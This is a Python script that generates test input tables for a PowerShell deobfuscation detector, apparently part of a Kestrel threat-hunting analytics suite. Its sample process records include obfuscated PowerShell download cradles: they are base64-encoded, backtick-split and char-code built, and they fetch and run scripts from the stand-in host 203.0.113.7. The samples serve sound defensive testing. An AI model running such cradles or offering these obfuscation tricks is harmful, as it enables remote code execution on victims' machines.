"""Writes the input tables of the golden cases (run inside an image with pandas, the repository
mounted at /w/repo and /work/shared at /w/shared:
python3 /w/repo/analytics/powershell-deobfuscate/tests/make_inputs.py)."""
import base64
import os
import sys

import pandas as pd

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "../../../scripts/testdata"))
from kestrel_shape import as_kestrel_sends  # noqa: E402
SHARED = os.path.join(HERE, "../../../../shared/kestrel-testdata")


def enc(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"
LINES = [
    ("powershell.exe", "winword.exe",
     "powershell.exe -NoP -NonI -W Hidden -EncodedCommand " + enc(CRADLE)),
    ("powershell.exe", "cmd.exe",
     "powershell -c \"I`E`X ((New-Object Net.WebClient).('Down'+'load'+'String')"
     "('http://203.0.113.7/b.ps1'))\""),
    ("powershell.exe", "explorer.exe",
     "powershell -c & ([char]73+[char]69+[char]0x58) ('Write-Host '+'pwned')"),
    ("pwsh.exe", "services.exe",
     "pwsh -c (\"{2}{0}{1}\" -f 'ke-Ex','pression','Invo') ('whoami /all')"),
    ("powershell.exe", "wmiprvse.exe",
     "powershell -e " + enc("$s=[char[]](105,101,120) -join '';& $s ('calc')")),
    ("powershell.exe", "mshta.exe",
     "powershell -c [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('"
     + enc("Start-Process notepad") + "'))"),
    ("cmd.exe", "explorer.exe", "cmd.exe /c dir C:\\Users"),
    ("svchost.exe", "services.exe", None),
]


def obfuscated():
    n = len(LINES)
    return pd.DataFrame({
        "id": ["process--%08d-0000-4000-8000-000000000000" % i for i in range(n)],
        "type": ["process"] * n,
        "name": [l[0] for l in LINES],
        "pid": [4000 + 4 * i for i in range(n)],
        "parent_ref.name": [l[1] for l in LINES],
        "command_line": [l[2] for l in LINES],
    })


def no_command_line():
    return pd.DataFrame({"id": ["process--a", "process--b"], "type": ["process"] * 2,
                         "name": ["powershell.exe", "cmd.exe"], "pid": [10, 11]})


def write(case, df):
    d = os.path.join(HERE, case, "input")
    os.makedirs(d, exist_ok=True)
    df.to_parquet(os.path.join(d, "0.parquet.gz"), index=False)


if __name__ == "__main__":
    write("obfuscated-commands", obfuscated())
    write("missing-command-line", no_command_line())
    # Kestrel's own process table, as Kestrel 1.8 sends it (no bare x_contained_by_ref)
    write("kestrel-procs",
          as_kestrel_sends(pd.read_parquet(os.path.join(SHARED, "procs_python.parquet.gz"))))
